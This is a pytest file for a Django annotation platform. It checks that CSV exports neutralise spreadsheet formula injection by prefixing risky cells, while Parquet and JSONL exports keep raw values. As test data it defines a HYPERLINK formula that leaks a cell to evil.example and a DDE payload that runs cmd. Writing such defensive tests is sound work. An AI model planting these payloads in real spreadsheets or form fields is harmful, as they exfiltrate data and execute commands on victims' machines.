"""Formula injection: every CSV the platform writes neutralises cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest
from django.core.management import call_command

from annotations.analysis.report import run_analysis
from annotations.models import Annotator
from annotations.services import sessions
from evalsite.csvsafe import safe_cell
from tests.annotations.factories import build_study

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _rate(study, label: str, country: str) -> None:
    annotator = sessions.annotator_enter(study=study, source=Annotator.Source.LINK, external_id=label)
    sessions.annotator_consent(annotator=annotator)
    # The study's closed questions take their first choice; the free-text country carries the payload.
    answers = {q["name"]: (q.get("choices") or [country])[0] for q in study.demographics_questions}
    sessions.annotator_save_demographics(annotator=annotator, answers=answers)
    sessions.assignments_allocate(annotator=annotator)
    constructs = list(study.constructs.all())
    for assignment in annotator.assignments.filter(status="assigned"):
        sessions.mark_shown(assignment)
        answers = [sessions.ScreenAnswer(assignment.explanation_id, c.pk, 3 + (c.pk % 2)) for c in constructs]
        sessions.screen_submit(annotator=annotator, assignment_id=assignment.pk, answers=answers)
    sessions.annotator_finish(annotator=annotator)


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
def test_export_ratings_csv_neutralises_both_payloads_and_parquet_keeps_them(tmp_path):
    study = build_study(slug="injection", conditions=("A", "B"), n_items=4, per_annotator=2, ratings_per_explanation=2)
    _rate(study, "first", HYPERLINK)
    _rate(study, "second", DDE)
    out = io.StringIO()
    call_command("export_ratings", "--study", study.slug, "--format", "csv", stdout=out)
    rows = _cells(out.getvalue())
    countries = {row["demographic_country"] for row in rows}
    assert countries == {"'" + HYPERLINK, "'" + DDE}
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
    # Numbers stay numbers.
    frame = pd.read_csv(io.StringIO(out.getvalue()))
    assert pd.api.types.is_numeric_dtype(frame["value"]) and pd.api.types.is_numeric_dtype(frame["annotator_id"])

    call_command("export_ratings", "--study", study.slug, "--format", "parquet", "--out", str(tmp_path / "r.parquet"))
    assert set(pd.read_parquet(tmp_path / "r.parquet")["demographic_country"]) == {HYPERLINK, DDE}
    call_command("export_ratings", "--study", study.slug, "--format", "jsonl", "--out", str(tmp_path / "r.jsonl"))
    assert set(pd.read_json(tmp_path / "r.jsonl", lines=True)["demographic_country"]) == {HYPERLINK, DDE}


def test_ratings_tidy_csv_neutralises_labels_ids_and_covariates(tmp_path):
    rng = np.random.default_rng(0)
    rows = [
        {
            "annotator_id": f"a{a}",
            "item_id": DDE if i == 0 else f"i{i}",
            "explanation_id": f"i{i}",
            "condition": HYPERLINK if c else "plain",
            "construct": "C",
            "value": float(rng.integers(1, 6)),
            "country": "\tTAB" if a == 0 else "-1.5",
            "offset": -1.5,
        }
        for a in range(4)
        for i in range(6)
        for c in (0, 1)
    ]
    run_analysis(pd.DataFrame(rows), tmp_path, n_boot=20, models=("lmm",))
    written = _cells((tmp_path / "ratings_tidy.csv").read_text())
    assert {row["condition"] for row in written} == {"plain", "'" + HYPERLINK}
    assert "'" + DDE in {row["item_id"] for row in written}
    assert {row["country"] for row in written} == {"'\tTAB", "-1.5"}  # a number written as text stays
    assert {row["offset"] for row in written} == {"-1.5"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\rx", "'\rx"),
        ("-3", "-3"),
        ("+0.5", "+0.5"),
        ("1e-3", "1e-3"),
        ("plain", "plain"),
        (-3.0, -3.0),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
